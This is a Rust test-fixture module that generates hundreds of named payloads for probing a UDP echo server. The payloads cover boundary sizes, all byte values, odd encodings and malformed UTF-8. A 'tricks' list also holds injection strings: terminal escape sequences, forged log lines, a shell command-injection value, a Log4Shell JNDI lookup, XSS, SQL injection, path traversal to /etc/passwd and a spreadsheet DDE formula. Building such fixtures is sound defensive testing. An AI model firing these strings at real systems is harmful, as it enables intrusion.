//! Payloads by the hundred: every length that has ever been a boundary, every single byte, text
//! in encodings that are not UTF-8, text that is more than text, and the greetings of others.

use super::greetings::greetings;
use crate::e2e::net::LARGEST;

/// The tutorial's prefix, which stands before what is echoed.
pub(super) const ECHO: &[u8] = b"echo ";

/// Every payload with a name to find it by.
pub(super) fn payloads() -> Vec<(String, Vec<u8>)> {
    let mut kinds: Vec<(String, Vec<u8>)> = Vec::new();
    for size in sizes() {
        kinds.push((format!("{size} bytes"), pattern(size)));
    }
    for byte in 0..=u8::MAX {
        kinds.push((format!("the byte {byte:#04x}"), vec![byte]));
    }
    kinds.extend(encodings().into_iter().map(|(name, bytes)| (name.to_owned(), bytes)));
    kinds.extend(
        tricks().into_iter().map(|(name, text)| (name.to_owned(), text.as_bytes().to_vec())),
    );
    for n in [1, 2, 15] {
        kinds.push((format!("{n} prefixes"), ECHO.repeat(n)));
    }
    kinds.extend(greetings().into_iter().map(|(name, bytes)| (name.to_owned(), bytes)));
    kinds
}

/// A grid from nothing to the largest, with both neighbours of what is a boundary somewhere.
pub(super) fn sizes() -> Vec<usize> {
    let boundaries = [
        1, 2, 4, 8, 14, 16, 32, 44, 48, 64, 112, 128, 200, 256, 508, 512, 548, 576, 1000, 1024,
        1200, 1232, 1280, 1400, 1467, 1472, 1500, 2048, 4096, 8192, 8972, 9000, 16_384, 32_768,
        49_152, 60_000, 65_000, 65_500, 65_502, 65_507,
    ];
    let around = boundaries.iter().flat_map(|&b| [b - 1, b, b + 1]);
    let mut sizes: Vec<usize> = around.chain((0..LARGEST).step_by(2_477)).collect();
    sizes.retain(|&s| s <= LARGEST);
    sizes.sort_unstable();
    sizes.dedup();
    sizes
}

/// Bytes whose place can be told from their value.
pub(super) fn pattern(size: usize) -> Vec<u8> {
    (0..size).map(|i| (i.wrapping_mul(31) ^ (i >> 8)).to_le_bytes()[0]).collect()
}

fn encodings() -> Vec<(&'static str, Vec<u8>)> {
    let utf16 = |text: &str, big: bool| -> Vec<u8> {
        text.encode_utf16()
            .flat_map(|u| if big { u.to_be_bytes() } else { u.to_le_bytes() })
            .collect()
    };
    vec![
        ("all bytes", (0..=u8::MAX).collect()),
        ("all bytes backwards", (0..=u8::MAX).rev().collect()),
        ("Latin-1", b"na\xefve caf\xe9".to_vec()),
        ("Windows-1252", b"\x93quoted\x94 \x80".to_vec()),
        ("Shift-JIS", b"\x83\x65\x83\x58\x83\x67".to_vec()),
        ("EUC-JP", b"\xa5\xc6\xa5\xb9\xa5\xc8".to_vec()),
        ("ISO-2022-JP", b"\x1b$B%F%9%H\x1b(B".to_vec()),
        ("GBK", b"\xb2\xe2\xca\xd4".to_vec()),
        ("Big5", b"\xb4\xfa\xb8\xd5".to_vec()),
        ("KOI8-R", b"\xd4\xc5\xd3\xd4".to_vec()),
        ("EBCDIC", b"\xc8\x85\x93\x93\x96".to_vec()),
        ("UTF-16 little", utf16("\u{feff}h\u{e9}llo", false)),
        ("UTF-16 big", utf16("\u{feff}h\u{e9}llo", true)),
        ("UTF-32", b"\0\0\xfe\xff\0\0\0h\0\0\0i".to_vec()),
        ("UTF-7", b"+AGgAaQ-".to_vec()),
        ("overlong slash", b"\xc0\xaf".to_vec()),
        ("overlong NUL", b"\xc0\x80".to_vec()),
        ("overlong of three", b"\xe0\x80\xaf".to_vec()),
        ("overlong of four", b"\xf0\x80\x80\xaf".to_vec()),
        ("surrogate", b"\xed\xa0\x80".to_vec()),
        ("surrogate pair", b"\xed\xa0\xbd\xed\xb8\x80".to_vec()),
        ("beyond Unicode", b"\xf4\x90\x80\x80".to_vec()),
        ("five bytes", b"\xf8\x88\x80\x80\x80".to_vec()),
        ("cut after one of two", b"caf\xc3".to_vec()),
        ("cut after two of three", b"\xe2\x82".to_vec()),
        ("cut after three of four", b"\xf0\x9f\x98".to_vec()),
        ("continuations alone", vec![0x80; 64]),
        ("first bytes alone", vec![0xc3; 64]),
        ("all ones", vec![0xff; 1400]),
        ("zeros", vec![0; 1400]),
        ("line ends alone", vec![b'\n'; 700]),
        ("escapes alone", vec![0x1b; 700]),
        ("backslashes alone", vec![b'\\'; 700]),
        ("spaces alone", vec![b' '; 700]),
        ("gzip", b"\x1f\x8b\x08\0\0\0\0\0\0\x03".to_vec()),
        ("PNG", b"\x89PNG\r\n\x1a\n".to_vec()),
        ("ELF", b"\x7fELF\x02\x01\x01".to_vec()),
    ]
}

/// Text that means something to whoever shows, logs or parses it without care.
pub(super) fn tricks() -> Vec<(&'static str, &'static str)> {
    vec![
        ("clear screen", "\x1b[2J\x1b[H"),
        ("set title", "\x1b]0;owned\x07"),
        ("ask for the title", "\x1b[21t"),
        ("device status", "\x1b[6n"),
        ("clipboard", "\x1b]52;c;aGk=\x07"),
        ("hyperlink", "\x1b]8;;http://example/\x1b\\x\x1b]8;;\x1b\\"),
        ("device control string", "\x1bPq#0;2;0;0;0\x1b\\"),
        ("application command", "\x1b_G\x1b\\"),
        ("C1 control sequence", "\u{9b}2J"),
        ("C1 operating system command", "\u{9d}0;owned\u{9c}"),
        ("next line", "a\u{85}b"),
        ("alternate screen", "\x1b[?1049h"),
        ("mouse reports", "\x1b[?1003h"),
        ("reset", "\x1bc"),
        ("shift out", "\x0e\x0f"),
        ("bell", "\x07\x07\x07"),
        ("backspaces", "safe\x08\x08\x08\x08evil"),
        ("delete", "a\x7fb"),
        ("carriage return", "safe\revil"),
        ("forged line", "x\nrecvfrom ('192.0.2.1', 1): forged"),
        ("forged line, Windows", "x\r\nrecvfrom ('192.0.2.1', 1): forged"),
        ("forged summary", "x\n5 received, 5 replied, 0 dropped, 0 failed, 0 kernel drops"),
        ("line separator", "a\u{2028}recvfrom ('192.0.2.1', 1): forged"),
        ("paragraph separator", "a\u{2029}b"),
        ("vertical tab and form feed", "a\x0bb\x0cc"),
        ("right-to-left override", "user\u{202e}gpj.exe"),
        ("bidirectional embeddings", "\u{202a}a\u{202b}b\u{202c}c\u{202d}d"),
        ("bidirectional isolates", "\u{2066}a\u{2067}b\u{2068}c\u{2069}d"),
        ("bidirectional marks", "\u{200e}a\u{200f}b\u{61c}c"),
        ("zero width", "a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{feff}f"),
        ("soft hyphen", "pass\u{ad}word"),
        ("tags", "\u{e0001}\u{e0041}\u{e0042}\u{e007f}"),
        ("noncharacters", "\u{fffe}\u{ffff}\u{fdd0}\u{10ffff}"),
        (
            "combining marks without end",
            "z\u{335}\u{321}\u{327}\u{328}\u{322}\u{331}\u{332}\u{333}",
        ),
        ("a family", "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}"),
        ("wide", "\u{ff21}\u{4e2d}\u{6587}"),
        ("JSON inside", "\",\"type\":\"summary\",\"x\":\""),
        ("JSON line", "x\"}\n{\"type\":\"start\",\"v\":1}"),
        ("JSON escapes", "\\u0000 \\\" \\n"),
        ("escape form", "\\x1b[2J \\u{202e} \\n"),
        ("format string", "%s%s%s%n%x%08x"),
        ("format string, Rust", "{} {0} {:?} {{"),
        ("shell", "$(touch owned) `touch owned` ; touch owned | touch owned"),
        ("look-up", "${jndi:ldap://192.0.2.1/a}"),
        ("markup", "<script>alert(1)</script>"),
        ("query", "' OR '1'='1'; --"),
        ("path", "../../../../etc/passwd\0.txt"),
        ("spreadsheet", "=cmd|' /C calc'!A0"),
        ("log level", "[ERROR udp_server] forged"),
        ("the tutorial's words", "recvfrom ('127.0.0.1', 7000): hello"),
        ("exit", "exit"),
        ("end of file", "\x04"),
        ("interrupt", "\x03"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_hundreds_and_each_has_a_name_of_its_own() {
        let kinds = payloads();
        assert!(kinds.len() >= 400, "{}", kinds.len());
        let mut names: Vec<_> = kinds.iter().map(|(name, _)| name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), kinds.len());
        assert_eq!((sizes().first(), sizes().last()), (Some(&0), Some(&LARGEST)));
    }
}
